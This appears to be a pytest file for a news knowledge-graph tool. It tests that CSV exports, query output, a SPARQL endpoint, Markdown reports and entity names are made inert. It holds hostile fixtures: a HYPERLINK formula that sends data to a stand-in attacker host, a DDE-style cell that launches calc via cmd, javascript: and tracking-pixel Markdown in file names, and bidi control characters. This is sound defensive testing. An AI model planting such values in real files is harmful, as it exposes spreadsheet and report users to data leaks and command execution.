"""Inert outputs: no spreadsheet formula in any CSV, no live Markdown in report.md, no bidi controls in names."""
from __future__ import annotations

import csv
import io
import json
import threading
import urllib.parse
import urllib.request

import pytest
from markdown_it import MarkdownIt
from typer.testing import CliRunner

from kg.cli import app
from kg.inert import csv_cell, markdown, strip_bidi
from kg.pipeline import build, run
from kg.serve import make_server

runner = CliRunner()
FORMULA = '=HYPERLINK("http://evil.example/?leak","Click")'
HOSTILE_ID = "@SUM(1+1)*cmd|' /C calc'!A0"
TRIGGERS = ("=", "+", "-", "@")
MEETING = "Russian President Vladimir Putin met Tajik President Emomali Rahmon in Moscow on Monday."


@pytest.fixture(scope="module")
def formula_build(tmp_path_factory):
    """A build of one article whose id and evidence sentence start like spreadsheet formulas."""
    folder = tmp_path_factory.mktemp("formula")
    feed = folder / "feed.jsonl"
    feed.write_text(json.dumps({"id": HOSTILE_ID, "date": "2022-05-17", "title": "-2+3",
                                "text": f"{FORMULA} {MEETING} The talks were useful, both sides said."}) + "\n")
    build([feed], folder / "out", validate=False, html=False)
    return folder / "out"


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(cells: list[str]) -> None:
    assert cells
    starting = [c for c in cells if c.startswith(TRIGGERS) and not _is_number(c)]
    assert starting == [], starting


def _is_number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def test_bar_the_csv_export_of_a_formula_sentence_has_no_formula_cell(formula_build, tmp_path):
    target = tmp_path / "edges.csv"
    result = runner.invoke(app, ["export", "--out", str(formula_build), "--format", "csv", "-o", str(target)])
    assert result.exit_code == 0, result.output
    cells = _cells(target.read_text(encoding="utf-8"))
    assert any(c.startswith("'=HYPERLINK(") for c in cells) and f"'{HOSTILE_ID}" in cells  # kept, as text
    _assert_no_formula(cells)


def test_kg_query_csv_has_no_formula_cell(formula_build):
    result = runner.invoke(app, ["query", "relations", "--out", str(formula_build), "--format", "csv"])
    assert result.exit_code == 0, result.output
    _assert_no_formula(_cells(result.stdout))


def test_the_endpoint_csv_has_no_formula_cell(formula_build):
    server = make_server(formula_build / "store", port=0)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        host, port = server.server_address[:2]
        query = "SELECT ?e ?id WHERE { ?n dip:evidence ?e ; prov:wasDerivedFrom ?a . ?a dip:articleId ?id }"
        request = urllib.request.Request(f"http://{host}:{port}/sparql?" + urllib.parse.urlencode({"query": query}),
                                         headers={"Accept": "text/csv"})
        with urllib.request.urlopen(request, timeout=30) as answer:
            _assert_no_formula(_cells(answer.read().decode("utf-8")))
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("-8.0", "-8.0"), ("+3", "+3"), ("plain", "plain"), ("", ""), (None, None), (-2.5, -2.5)])
def test_csv_cells_follow_owasp(value, expected):
    assert csv_cell(value) == expected


def test_bar_report_md_of_hostile_file_names_has_no_live_link_or_image(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "[x](javascript:alert(1)).txt").write_text(f"date 2022-05-17 {MEETING} The talks were useful.")
    (folder / "![pixel](http:host track.png).txt").write_text("")  # empty: a skipped input, named in the report
    build([folder], tmp_path / "out", validate=False, html=False)
    report = (tmp_path / "out" / "report.md").read_text(encoding="utf-8")
    assert "javascript" in report and "pixel" in report  # both named, ...
    html = MarkdownIt("commonmark").enable("table").render(report)
    assert "<a " not in html and "<img" not in html  # ... neither live
    assert "](" not in report.replace("\\](", "")


@pytest.mark.parametrize("text", ["[x](javascript:alert(1))", "![p](http://h/t.png)", "<b>x</b>", "# title",
                                  "- item", "12. item", "*em* _em_ `code`", "www.example.org", "a@b.example",
                                  "http://host/x", "~~gone~~", "a | b", "line\nbreak"])
def test_markdown_escaping_leaves_plain_text(text):
    html = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown(text))
    assert html.startswith("<p>") and html.count("<") == 2, html  # one paragraph of text, no other element


def test_bidi_controls_are_stripped_at_ingest_and_names_stay_whole(tmp_path):
    path = tmp_path / "bidi.txt"
    path.write_text("date 2022-05-17 Russian President Vladimir Pu\u202etin met Tajik President Emomali "
                    "Rah\u2067mon\u2069 in Moscow on Monday. The talks were useful, both sides said.")
    (result,) = run([path])
    labels = {e.label for r in result.relations for e in (r.subject, r.object)}
    assert {"Vladimir Putin", "Emomali Rahmon"} <= labels
    assert strip_bidi(result.article.text) == result.article.text
